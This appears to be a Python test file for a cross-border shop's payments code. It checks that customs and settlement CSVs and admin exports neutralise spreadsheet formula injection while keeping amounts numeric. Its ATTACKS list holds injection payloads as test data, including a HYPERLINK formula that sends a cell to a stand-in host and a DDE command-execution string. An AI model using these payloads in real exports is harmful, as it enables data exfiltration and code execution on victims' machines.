"""Every CSV the platform writes is safe to open in a spreadsheet (issue 13, item 6): text cells
from shoppers and partners that start with = + - @, a tab or a carriage return get an apostrophe
(crossborder.spreadsheets); amounts our code writes stay numbers, negative ones included."""

import csv
import datetime as dt
import io
import pathlib

import openpyxl
import pytest
import tablib
from import_export.mixins import BaseExportMixin

from payments.ledger.services import ledger, payouts, settlement
from payments.models import CustomsDeclaration, Order
from payments.shop.services import orders
from tests.partner_zone.factories import make_partnership
from tests.payments.factories import sell_partner_goods

pytestmark = pytest.mark.django_db

CUTOFF = dt.datetime(2026, 11, 30, 23, 0, tzinfo=dt.UTC)
ATTACKS = ['=HYPERLINK("http://evil.invalid/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1"]
APP_FOLDERS = ["crossborder", "catalog", "logistics", "partner_zone", "payments", "aftersales"]


def rows_of(text):
    return list(csv.reader(io.StringIO(text, newline="")))


def test_customs_csv_neutralises_shopper_and_partner_text_and_keeps_amounts_numbers():
    declaration = CustomsDeclaration(
        # The exports read the full ID number from the order (encrypted at rest), not the stored record.
        order=Order(buyer_id_number="110101199003074578"),
        order_record={
            "order_number": "CN-1",
            "buyer_name": ATTACKS[0],
            "buyer_id_number": "110101199003074578",
            "consignee": ATTACKS[3],
            "consignee_address": ATTACKS[4],
            "buyer_phone": "+8613800000000",
            "currency": "CNY",
            "lines": [
                {
                    "line": 1,
                    "sku": ATTACKS[2],
                    "title": ATTACKS[1],
                    "hs_code": "392410",
                    "quantity": 2,
                    "unit_price": "90.00",
                    "goods": "180.00",
                    "freight": "-5.00",  # a discount as the record carries it: a number, kept negative
                    "dutiable_value": "175.00",
                    "taxes": "=1+1",  # not a number: neutralised even in an amount column
                }
            ],
        },
        payment_record={"payment_reference": ATTACKS[5], "paid_at": "2026-11-30T10:00:00Z"},
        waybill_record={"parcels": [{"line": 1, "shipment": "S-1", "waybill_number": "@W1"}]},
    )

    header, row = rows_of(orders.customs_csv(declaration))
    cells = dict(zip(header, row, strict=True))

    assert cells["buyer_name"] == "'" + ATTACKS[0]
    assert cells["title"] == "'" + ATTACKS[1]
    assert cells["sku"] == "'-2+3"
    assert cells["consignee"] == "'@SUM(1)"
    assert cells["consignee_address"] == "'\t=1"
    assert cells["payment_reference"] == "'\r=1"
    assert cells["buyer_phone"] == "'+8613800000000"  # the OWASP rule: a text column starting with +
    assert cells["waybill_number"] == "'@W1"
    assert (cells["quantity"], cells["unit_price"], cells["freight"]) == ("2", "90.00", "-5.00")
    assert cells["taxes"] == "'=1+1"
    assert cells["order_number"] == "CN-1" and cells["hs_code"] == "392410"


def test_the_settlement_statement_neutralises_references_and_keeps_negative_amounts_as_numbers():
    ledger.forget_accounts()
    partnership = make_partnership(settlement_cutoff=dt.time(23, 0))
    from unittest import mock

    with mock.patch("django.utils.timezone.now", return_value=CUTOFF - dt.timedelta(hours=2)):
        sell_partner_goods(partnership, ATTACKS[0], partner="90.00")
        sell_partner_goods(partnership, "order:cn:2:1", partner="20.00")
    batch = settlement.close_period(partnership=partnership, period_end=CUTOFF, now=CUTOFF + dt.timedelta(hours=1))

    rows = rows_of(payouts.statement_csv(batch, settlement.statement_lines(batch)))
    ledger.forget_accounts()

    by_reference = {row[0]: row for row in rows[1:]}
    assert by_reference["'" + ATTACKS[0]][3] == "-81.00"  # an amount: a negative number, not text
    assert by_reference["order:cn:2:1"][3] == "-18.00"
    assert rows[-1][3] == "-99.00"
    assert all(not row[0].startswith(("=", "+", "-", "@")) for row in rows)


def test_no_app_writes_csv_or_xlsx_except_through_the_spreadsheets_module():
    """The class of the defect: a new writer must go through crossborder.spreadsheets."""
    root = pathlib.Path(__file__).resolve().parents[2]
    offenders = []
    for folder in APP_FOLDERS:
        for path in (root / folder).rglob("*.py"):
            if path.name == "spreadsheets.py" or "migrations" in path.parts:
                continue
            source = path.read_text()
            for writer in ("csv.writer(", "csv.DictWriter(", ".export(", "Workbook("):
                if writer in source:
                    offenders.append(f"{path.relative_to(root)}: {writer}")
    assert offenders == []


def test_an_admin_export_through_django_import_export_is_neutralised_too():
    """The formats every import-export admin offers are ours (settings.EXPORT_FORMATS), and they
    write through crossborder.spreadsheets."""
    dataset = tablib.Dataset(["=1+1", -12, "@me"], headers=["title", "amount", "owner"], title="orders")
    formats = BaseExportMixin().get_export_formats()

    assert [fmt.__name__ for fmt in formats] == ["SafeCSV", "SafeXLSX"]
    csv_format, xlsx_format = (fmt() for fmt in formats)
    assert rows_of(csv_format.export_data(dataset))[1] == ["'=1+1", "-12", "'@me"]
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_format.export_data(dataset))).active
    assert [(cell.value, cell.data_type) for cell in sheet[2]] == [("'=1+1", "s"), (-12, "n"), ("'@me", "s")]
